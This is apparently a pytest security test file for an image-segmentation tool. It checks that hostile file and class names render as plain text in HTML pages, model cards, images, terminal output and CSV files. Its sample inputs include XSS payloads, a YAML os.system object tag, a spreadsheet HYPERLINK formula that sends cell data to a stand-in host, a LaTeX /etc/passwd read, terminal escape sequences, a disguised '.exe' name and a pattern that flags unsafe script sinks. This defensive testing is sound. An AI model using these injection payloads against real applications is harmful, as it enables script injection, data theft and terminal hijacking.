"""Names of files and classes, and what logs hold, are text wherever they are shown, never commands."""

import csv
import json
import re
from html import unescape
from pathlib import Path

import numpy as np
import pytest
import yaml
from PIL import Image

from tagseg.cli import main
from tagseg.data.reading import reading_of
from tagseg.data.sources import load
from tagseg.exporting.card_facts import CardFacts
from tagseg.exporting.card_text import escaped
from tagseg.exporting.model_card import model_card
from tagseg.inference.contact_sheet import Tile, draw_contact_sheet
from tagseg.inference.export import draw_overlay, save_table
from tagseg.reporting.curves import training_curves
from tagseg.reporting.page.html import details, drawing, element, table
from tagseg.terminal import say, say_json

from ..conftest import make_folder, tiny_config, tiny_network

PAGE = Path(__file__).parents[2] / "src" / "tagseg"
EVIL = {
    "markup": "<img src=x onerror=alert(1)>",
    "a script": "</script><script>alert(1)</script>",
    "an attribute": '" onmouseover="alert(1)',
    "a quote": "' autofocus onfocus='alert(1)",
    "SVG": "<svg onload=alert(1)>",
    "an entity": "&lt;script&gt;&#60;b&#62;",
    "a comment": "--><script>alert(1)</script><!--",
    "Markdown": "](javascript:alert(1)) [x](javascript:alert(1)) ![x](http://x/y.png)",
    "a table": "a | b |\n| --- | --- |\n# heading",
    "YAML": "---\nlicense: mit\n---\n!!python/object/apply:os.system [x]",
    "a formula": '=HYPERLINK("http://x/?"&A1)',
    "mathematics": r"$\frac{1}{0}$ \input{/etc/passwd} $",
    "a terminal's title": "\x1b]0;owned\x07\x1b[2J\x9b31m",
    "other order": "photo\u202egnp.exe",
    "a forged line": "x\ntagseg: trained 30 steps",
    "half a letter": "x\udcff",
    "a long one": "W" * 3_000,
}


OURS = {
    *("p", "main", "div", "table", "caption", "thead", "tbody", "tr", "th", "td", "details", "summary"),
    *("svg", "title", "desc", "text"),
}


@pytest.mark.parametrize("kind", EVIL)
def test_pages_show_a_name_as_text(kind: str) -> None:
    name = EVIL[kind]
    made = [
        element("p", name, title=name, data_x=name), table((name, name), [(name, name)], name), details(name, name),
        drawing("d", name, name, (1.0, 1.0), element("text", name)),
    ]  # fmt: skip
    page = str(element("main", made))
    tags = re.findall(r"<[^>]*>", page)
    assert {tag.split()[0].strip("<>/") for tag in tags} <= OURS
    assert not [tag for tag in tags if re.search(r"\son\w+=", re.sub(r'"[^"]*"', '""', tag))]
    if name.isprintable():
        assert name in unescape(page)


def test_no_script_of_ours_makes_markup_of_text() -> None:
    files = [*(PAGE / "serving").rglob("*.js"), *(PAGE / "reporting").rglob("*.js")]
    assert len(files) > 10
    found = (
        r"innerHTML|outerHTML|insertAdjacentHTML|document\.write|createContextualFragment|\beval\(|new Function|srcdoc"
    )
    for file in files:
        assert not re.search(found, file.read_text(encoding="utf-8")), file.name


@pytest.mark.parametrize("kind", EVIL)
def test_a_model_card_shows_a_name_as_text(kind: str) -> None:
    name = EVIL[kind]
    facts = CardFacts(
        name=name, network=tiny_network((name, "b", "c")), about={}, settings={}, files=(),
        data={"splits": {name: {"images": 1}}, "classes": [{"name": name, "images": {name: 1}}]},
        evaluation={"mean_iou": 0.5, "classes": [{"name": name, "iou": 0.5}], "protocol": {"what": name}},
    )  # fmt: skip
    card = model_card(facts)
    _, front, body = card.split("---\n", 2)
    assert set(yaml.safe_load(front)) <= {"library_name", "pipeline_tag", "tags", "model-index", "base_model"}
    assert not re.search(r"(?<!\\)\]\(javascript|<(?:img|script|svg)", body)
    assert "license" not in yaml.safe_load(front)
    assert all(line.isprintable() for line in body.encode("utf-8", "replace").decode().splitlines())
    assert "|" not in escaped(name).replace("\\|", "")


@pytest.mark.parametrize("kind", EVIL)
def test_pictures_draw_a_name_and_stay_small(kind: str, tmp_path: Path) -> None:
    name, photo, mask = EVIL[kind], np.zeros((20, 30, 3), np.uint8), np.ones((20, 30), np.uint8)
    for picture in (draw_overlay(photo, mask, (name,)), draw_contact_sheet([Tile(photo, mask, name)], (name,))):
        assert picture.width * picture.height < 2_000_000


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["mathematics", "a long one"])
def test_curves_draw_the_names_that_a_log_holds(kind: str, tmp_path: Path) -> None:
    """Mathematics would be drawn as a formula, or end in a traceback."""
    records = [{"step": step, f"{EVIL[kind]}/{EVIL[kind]}": 1.0, f"{EVIL[kind]}/_b": 2.0} for step in range(3)]
    training_curves(records, tmp_path / "curves.png")
    with Image.open(tmp_path / "curves.png") as picture:
        assert picture.width < 4000


@pytest.fixture
def evil_photos(tmp_path: Path) -> Path:
    """Photos and tags with names that rule a terminal."""
    root = make_folder(tmp_path / "data")
    names = {f"train{index}.jpg": f"\x1b[2J{index}\u202e.jpg" for index in range(3)}
    for plain, evil in names.items():
        (root / "images" / plain).rename(root / "images" / evil)
        (root / "masks" / plain.replace("jpg", "png")).rename(root / "masks" / evil.replace(".jpg", ".png"))
    rows = list(csv.reader((root / "labels.csv").open(newline="")))
    evil_class = {"circle": "\x1b[31m\x9b2Jcircle"}
    with (root / "labels.csv").open("w", newline="") as file:
        csv.writer(file).writerows([[names.get(cell, evil_class.get(cell, cell)) for cell in row] for row in rows])
    (root / "classes.txt").unlink()
    return root


def test_the_command_line_obeys_no_name(evil_photos: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for arguments in (["check", str(evil_photos)], ["check", str(evil_photos), "--json"]):
        main(arguments)
        printed = "".join(capsys.readouterr())
        assert "circle" in printed
        assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", printed)


def test_what_is_said_is_shown(capsys: pytest.CaptureFixture[str]) -> None:
    content = dict(EVIL)
    del content["half a letter"]  # no JSON
    say_json(json.dumps(content, ensure_ascii=False))
    printed = capsys.readouterr().out
    assert json.loads(printed) == content
    say("\n".join(EVIL.values()))
    printed += capsys.readouterr().out
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\ud800-\udfff]", printed)


def test_what_was_read_is_saved_exactly(evil_photos: Path) -> None:
    config = tiny_config(evil_photos, evil_photos / "run").data
    reading_of(config, {"train": load(config, "train")}).save(evil_photos)
    saved = json.loads((evil_photos / "data.json").read_text())
    assert "\x1b[31m\x9b2Jcircle" in [each["name"] for each in saved["classes"]]


def test_tables_hold_names_exactly(tmp_path: Path) -> None:
    """Also those that a spreadsheet takes for a formula: a changed name would fit no photo (docs/reliability.md)."""
    names = [*EVIL.values(), "=1+1", "+1", "-1", "@SUM(A1)", "\t=1"]
    save_table(tmp_path / "t.csv", ("image",), [(name,) for name in names])
    with (tmp_path / "t.csv").open(newline="", encoding="utf-8", errors="surrogateescape") as file:
        assert [row[0] for row in csv.reader(file)][1:] == names
